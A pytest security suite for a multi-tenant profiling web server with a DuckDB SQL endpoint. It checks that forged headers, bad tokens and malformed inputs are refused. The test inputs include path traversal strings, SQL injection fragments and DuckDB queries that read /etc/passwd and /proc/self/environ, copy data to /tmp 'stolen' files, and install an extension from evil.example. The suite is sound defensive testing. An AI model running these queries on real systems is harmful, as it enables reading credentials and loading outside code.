"""Whoever knocks: hostile requests are refused in words, and the server lives on."""

import json
import shutil
import socket
import subprocess
import sys

import pytest

from tests.serving import KERNELS, LAUNCHES, NOW_NS, TENANTS, serving, three_tenants


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    return three_tenants(tmp_path_factory.mktemp("security") / "store")


@pytest.fixture(scope="module")
def served(store):
    with serving(store) as running:
        yield running
        assert running.alive()


@pytest.fixture(scope="module")
def bound(store):
    with serving(store, "--tenant", "ml/train") as running:
        yield running
        assert running.alive()


API = (
    "/api/status",
    f"/api/tile?from={NOW_NS}&cell=2097152",
    f"/api/event?family=cuda&at={NOW_NS}&tid=103",
    f"/api/cell?lane=0&from={NOW_NS}&to={NOW_NS + 10**9}",
    f"/api/tables?from={NOW_NS}&to={NOW_NS + 10**9}",
    "/api/questions",
    "/api/interference",
    "/api/findings",
    "/metrics",
)

HOSTS = (
    "evil.example",
    "evil.example:{port}",
    "127.0.0.1",
    "127.0.0.1:1",
    "127.0.0.1:{port}.evil.example",
    "evil.example@127.0.0.1:{port}",
    "localhost.evil.example:{port}",
    "[::1]:1",
    "0.0.0.0:{port}",
    "127.1:{port}",
    "",
)


@pytest.mark.parametrize("host", HOSTS)
def test_another_host_is_refused(served, host):
    for path in ("/", "/api/status", "/metrics"):
        reply = served.request(path, headers={"Host": host.format(port=served.port)})
        assert reply.status in (400, 403)
    assert served.alive()


@pytest.mark.parametrize(
    "origin",
    [
        "http://evil.example",
        "https://127.0.0.1:{port}",
        "http://127.0.0.1:1",
        "http://127.0.0.1:{port}.evil.example",
        "null",
        "file://",
    ],
)
def test_another_origin_is_refused(served, origin):
    reply = served.request("/api/status", headers={"Origin": origin.format(port=served.port)})
    assert reply.status == 403
    assert reply.error == "requests of other sites are refused"


@pytest.mark.parametrize("site", ["cross-site", "same-site"])
def test_what_a_browser_says_comes_from_elsewhere_is_refused(served, site):
    headers = {"Sec-Fetch-Site": site, "Sec-Fetch-Mode": "no-cors"}
    assert served.request("/app.js", headers=headers).status == 403
    assert served.request("/api/status", headers=headers).status == 403


@pytest.mark.parametrize("path", [*API, "/api/", "/api/nothing"])
def test_without_the_token_nothing_is_told(served, path):
    wrong = served.token[:-1] + ("A" if served.token[-1] != "A" else "B")
    attempts = (
        served.request(path, token=None),
        served.request(path, token=wrong),
        served.request(path, token=None, headers={"Authorization": served.token}),
        served.request(path, token=None, headers={"Authorization": f"Basic {served.token}"}),
        served.request(path, token=None, headers={"Cookie": f"token={served.token}"}),
        served.request(f"{path}{'&' if '?' in path else '?'}token={served.token}", token=None),
    )
    for reply in attempts:
        assert reply.status == 401
        assert "token" in reply.error
    assert served.sql("SELECT 1", token=None).status == 401


@pytest.mark.parametrize(
    "path",
    [
        "/../../etc/passwd",
        "/..%2f..%2fetc%2fpasswd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/static/../server.py",
        "//etc/passwd",
        "/app.js/../../server.py",
        "/server.py",
        "/index.html",
        "/.git/config",
        "/\\..\\..\\etc\\passwd",
        "/app.js%00.html",
        "/file:///etc/passwd",
    ],
)
def test_no_other_file_is_served(served, path):
    reply = served.request(path)
    assert reply.status in (400, 404)
    assert b"root:" not in reply.body
    assert b"import" not in reply.body


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE"])
def test_only_reading_is_allowed(served, method):
    for path in ("/", "/api/status", "/metrics"):
        assert served.request(path, method=method, body=b"").status == 405
    assert served.request("/api/sql", method="GET").status == 405


@pytest.mark.parametrize(
    "query",
    [
        "tile?from=1",
        "tile?from=-1&cell=1024",
        "tile?from=1&cell=0",
        "tile?from=1&cell=1000",
        "tile?from=99999999999999999999&cell=1024",
        f"tile?from={2**63 - 1}&cell=1024",
        "tile?from=1&cell=9999999999999999999",
        "tile?from=1;DROP&cell=1024",
        "tile?from=%D9%A1&cell=1024",
        "tile?from=1&from=2&cell=1024",
        "event?family=secrets&at=1&tid=1",
        "event?family=cuda'--&at=1&tid=1",
        "event?family=cuda&at=1&tid=1%20OR%201=1",
        "cell?lane=9999&from=1&to=2",
        "cell?lane=-1&from=1&to=2",
        "tables?from=2&to=1",
        "tables?from=0x10&to=99",
    ],
)
def test_what_cannot_be_meant_is_refused_in_words(served, query):
    reply = served.request(f"/api/{query}")
    assert reply.status == 400
    assert reply.error


@pytest.mark.parametrize(
    "sql",
    [
        "INSERT INTO cuda_events SELECT * FROM cuda_events",
        "DELETE FROM cuda_events",
        "UPDATE containers SET tenant = 'me'",
        "DROP VIEW cuda_events",
        "CREATE TABLE mine AS SELECT 1",
        "CREATE OR REPLACE VIEW cuda_events AS SELECT 1",
        "ALTER VIEW cuda_events RENAME TO gone",
        "TRUNCATE cuda_events",
        "COPY cuda_events TO '/tmp/stolen.csv'",
        "COPY (SELECT 1) TO '/tmp/stolen.parquet'",
        "WITH x AS (COPY (SELECT 1) TO '/tmp/stolen.csv') SELECT 1",
        "EXPORT DATABASE '/tmp/stolen'",
        "IMPORT DATABASE '/tmp/stolen'",
        "ATTACH '/tmp/other.db' AS other",
        "DETACH memory",
        "USE memory",
        "INSTALL httpfs",
        "LOAD httpfs",
        "FORCE INSTALL httpfs FROM 'http://evil.example'",
        "SET memory_limit = '100GB'",
        "SET enable_external_access = true",
        "RESET memory_limit",
        "PRAGMA database_list",
        "CALL pragma_version()",
        "VACUUM",
        "CHECKPOINT",
        "BEGIN",
        "PREPARE x AS SELECT 1",
        "EXECUTE x",
        "SELECT 1; SELECT 2",
        "SELECT * FROM read_csv('/etc/passwd')",
        "SELECT * FROM read_text('/etc/passwd')",
        "SELECT * FROM read_blob('/etc/shadow')",
        "SELECT * FROM read_parquet('/etc/*')",
        "SELECT * FROM read_json('/proc/self/environ')",
        "SELECT * FROM glob('/etc/*')",
        "SELECT * FROM '/etc/passwd'",
        "SELECT * FROM 'http://evil.example/x.parquet'",
        "FROM sniff_csv('/etc/passwd')",
        "SELECT * FROM duckdb_secrets()",
        "SELECT * FROM duckdb_settings()",
        "SELECT * FROM query('SELECT 1')",
        "SELECT * FROM query_table('cuda_events')",
        "SELECT getenv('HOME')",
        "SELECT nextval('x')",
        "SELECT * FROM sqlite_scan('/etc/x', 'y')",
        "SELECT * FROM parquet_metadata('/etc/x')",
        "SELECT",
        "",
        "\x00",
        "this is not SQL",
    ],
)
def test_sql_that_does_more_than_read_is_refused(served, sql):
    reply = served.sql(sql)
    assert reply.status == 400
    assert reply.error
    assert "root:" not in reply.body.decode()


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT count(*) FROM range(100000000) a, range(100000000) b",
        "SELECT list(r) FROM range(400000000) t(r)",
        "SELECT * FROM range(300000000) t(r) ORDER BY hash(r)",
        "WITH RECURSIVE x(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM x) SELECT max(n) FROM x",
        "SELECT repeat('x', 2000000000)",
        "SELECT string_agg(repeat('x', 1000000), '') FROM range(100000)",
    ],
)
def test_a_runaway_question_ends_and_the_next_is_answered(served, sql):
    reply = served.sql(sql)
    assert reply.status == 400
    assert "query less" in reply.error or "no answer after" in reply.error
    assert served.sql("SELECT 41 + 1 AS n").json["rows"] == [[42]]


def test_whoever_answers_a_page_can_change_no_file(tmp_path):
    precious = tmp_path / "precious"
    precious.write_text("precious")
    script = """
import os, sys
from cotenant.views.cli import main
from cotenant.views.web.worker import Bounds, _confine
_confine(Bounds())
for change in (os.unlink, lambda path: os.truncate(path, 0), lambda path: open(path, "w")):
    try:
        change(sys.argv[1])
    except PermissionError:
        print("refused")
"""
    done = subprocess.run(
        [sys.executable, "-c", script, precious], capture_output=True, text=True, check=True
    )
    assert done.stdout.split() == ["refused"] * 3
    assert precious.read_text() == "precious"


def test_an_answer_has_at_most_so_many_rows(served):
    answer = served.sql("SELECT * FROM range(100000)").json
    assert len(answer["rows"]) == 1_000
    assert answer["truncated"]


@pytest.mark.parametrize(
    ("body", "kind", "status"),
    [
        (b"{", "application/json", 400),
        (b"[]", "application/json", 400),
        (b'{"sql": 7}', "application/json", 400),
        (b"\xff\xfe", "application/json", 400),
        (b'{"sql": "SELECT 1"}', "text/plain", 415),
        (b'{"sql": "SELECT 1"}', "application/x-www-form-urlencoded", 415),
        (json.dumps({"sql": "SELECT " + "1 + " * 30_000 + "1"}).encode(), "application/json", 413),
    ],
)
def test_a_body_that_is_no_question_is_refused(served, body, kind, status):
    headers = {"Content-Type": kind}
    reply = served.request("/api/sql", method="POST", headers=headers, body=body)
    assert reply.status == status
    assert reply.error


def test_what_is_not_even_http_does_no_harm(served):
    for noise in (
        b"\x16\x03\x01\x02\x00",
        b"GET\r\n\r\n",
        b"\x00" * 999,
        b"GET / HTTP/9.9\r\n\r\n",
    ):
        with socket.create_connection(("127.0.0.1", served.port), timeout=20) as connection:
            connection.sendall(noise)
    assert served.request("/api/status").status == 200


OTHERS = ("ml/serve", "slurm/4711")


def told(reply, name):
    return (
        name in reply.body.decode()
        or str(TENANTS[name]) in reply.body.decode()
        or KERNELS[name] in reply.body.decode()
    )


@pytest.mark.parametrize("path", [path for path in API if "questions" not in path])
def test_a_page_bound_to_a_tenant_tells_of_no_other(bound, path):
    reply = bound.request(path)
    assert reply.status == 200
    assert not any(told(reply, other) for other in OTHERS)


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * FROM containers",
        "SELECT DISTINCT kernel_name FROM cuda_events",
        "SELECT * FROM totals",
        "SELECT * FROM losses",
        "SELECT * FROM main.cuda_events ORDER BY timestamp_ns DESC",
        "SELECT * FROM memory.main.containers",
        "SELECT * FROM tenant.cgroups",
        "SELECT * FROM duckdb_views()",
        "SELECT * FROM duckdb_tables()",
        "SELECT * FROM interference",
        'SELECT * FROM "Interference"',
        "EXPLAIN (ANALYZE --) FROM cuda_events /*\n) INSERT INTO tenant.cgroups VALUES "
        f"({TENANTS['slurm/4711']}) --*/",
        "SELECT error(kernel_name) FROM cuda_events WHERE kernel_name = 'secret_kernel'",
        f"SELECT * FROM cuda_events WHERE cgroup_id = {TENANTS['slurm/4711']}::BIGINT",
    ],
)
def test_sql_on_a_bound_page_reaches_no_other_tenant(bound, sql):
    reply = bound.sql(sql)
    if reply.status == 200:
        answer = json.dumps(reply.json["rows"])
        assert not any(name in answer for name in (*OTHERS, "secret_kernel", "gemm<float>"))
        assert not any(str(TENANTS[other]) in answer for other in OTHERS)
    else:
        assert reply.status == 400
        assert reply.error


@pytest.mark.parametrize("place", ["", "duckdb_views()", "information_schema.views", "pg_views"])
def test_a_bound_page_tells_no_definition_and_no_path(bound, store, place):
    sql = f"SELECT * FROM {place}" if place else "SELECT pg_get_viewdef(r) FROM range(3000) t(r)"
    reply = bound.sql(sql)
    assert reply.status == 400
    assert "is not among the tables of ml/train" in reply.error
    assert str(store) not in reply.body.decode()


def test_a_bound_page_does_not_say_where_its_store_was(tmp_path):
    root = three_tenants(tmp_path / "store")
    with serving(root, "--tenant", "ml/train") as served:
        shutil.move(root, tmp_path / "elsewhere")
        for reply in (served.request("/api/status"), served.sql("FROM cuda_events"),
                      served.request("/metrics")):  # fmt: skip
            assert reply.status in (400, 503)
            assert str(tmp_path) not in reply.body.decode()


def test_a_bound_page_has_every_row_of_its_tenant(bound):
    rows = bound.sql("SELECT tenant, count(*) FROM cuda_events JOIN containers USING (cgroup_id) "
                     "GROUP BY 1").json["rows"]  # fmt: skip
    assert rows == [["ml/train", LAUNCHES["ml/train"]]]
